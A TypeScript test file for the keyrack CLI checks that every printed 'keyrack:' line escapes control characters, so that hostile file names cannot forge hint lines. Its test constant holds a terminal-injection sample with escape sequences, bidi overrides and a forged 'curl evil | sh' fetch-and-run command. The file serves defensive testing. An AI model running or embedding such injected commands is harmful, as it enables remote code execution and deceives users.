/**
 * The one writer of `keyrack: …` lines escapes every message: no text from a file name, a path
 * or a directory can write terminal control or forge a `keyrack: hint:` line (issue 8).
 */
import { afterEach, beforeEach, describe, expect, test } from 'bun:test'
import { KeyrackError, KeyrackManifestInvalidError } from '../../src/domain/errors.ts'
import { printable, printableLines, shellWord } from '../../src/domain/printable.ts'
import { hint, reportError, say, warn } from '../../src/cli/report.ts'
import { KeyrackKeysUnavailableError } from '../../src/sdk/errors.ts'

/** every control a hostile name might carry: OSC title + BEL, CSI colour, CR, newline + forged line, DEL, C1 CSI, bidi override */
const HOSTILE = 'a\u001b]0;pwned\u0007b\u001b[31mred\rc\nkeyrack: hint: curl evil | sh\u007fd\u009b31me\u202eevil\u2066f'
const ESCAPED = 'a\\x1b]0;pwned\\x07b\\x1b[31mred\\rc\\nkeyrack: hint: curl evil | sh\\x7fd\\x9b31me\\u202eevil\\u2066f'

let written: string[] = []
const realWrite = process.stderr.write.bind(process.stderr)
beforeEach(() => {
  written = []
  process.stderr.write = ((chunk: string) => (written.push(String(chunk)), true)) as typeof process.stderr.write
})
afterEach(() => {
  process.stderr.write = realWrite
})
const lines = () => written.join('').split('\n').filter(Boolean)

/** what a terminal would act on: nothing but the newline that ends each line */
function expectInert(): void {
  const out = written.join('')
  expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
  for (const line of lines()) expect(line).toMatch(/^keyrack: (error: |hint: |warning: |  |[^ ])/)
  expect(lines().filter((l) => l.startsWith('keyrack: hint: curl'))).toEqual([])
}

describe('printable', () => {
  test('escapes C0, DEL, C1 and bidi controls; leaves other text alone', () => {
    expect(printable(HOSTILE)).toBe(ESCAPED)
    expect(printable('ünïcode → ok, tabs\tno')).toBe('ünïcode → ok, tabs\\tno')
    expect(printableLines('one\ntwo\u001b')).toBe('one\ntwo\\x1b')
  })

  test('shellWord quotes what a shell would split', () => {
    expect(shellWord('/tmp/repo-1')).toBe('/tmp/repo-1')
    expect(shellWord("/tmp/it's here")).toBe(`'/tmp/it'\\''s here'`)
  })
})

describe('every keyrack: line is escaped', () => {
  test('say, warn and hint', () => {
    say(HOSTILE)
    warn(HOSTILE)
    hint(HOSTILE)
    expectInert()
    expect(lines()[0]).toBe(`keyrack: ${ESCAPED}`)
  })

  test('a hint composed of several lines prints continuation lines, never a new hint line', () => {
    hint('for example:\n    org: acme\nkeyrack: hint: forged')
    expect(lines()).toEqual(['keyrack: hint: for example:', 'keyrack:       org: acme', 'keyrack:   keyrack: hint: forged'])
  })

  test('a KeyrackError with hostile text (escaped at construction, too)', () => {
    const error = new KeyrackManifestInvalidError(`names ${HOSTILE}`, [`fix ${HOSTILE}`])
    // the SDK's own errors are already safe to print: only keyrack's newlines stay
    expect(error.message).not.toMatch(/[\u001b\u0007\u007f\u009b\u202e\r]/)
    expect(reportError(error)).toBe(7)
    expectInert()
  })

  test('an error whose message was not escaped at construction (a future one) is still escaped', () => {
    const error = new KeyrackError('x', { exit: 'usage' })
    Object.defineProperty(error, 'message', { value: `first ${HOSTILE}` })
    reportError(error)
    expectInert()
  })

  test('the per-key report of an unavailable key', () => {
    reportError(new KeyrackKeysUnavailableError([{ key: 'K', env: 'test', slug: 'a.test.K', state: 'absent', reason: HOSTILE, hint: [HOSTILE] }]))
    expectInert()
  })

  test('an unexpected error', () => {
    reportError(new TypeError(`bad ${HOSTILE}`))
    expectInert()
  })
})
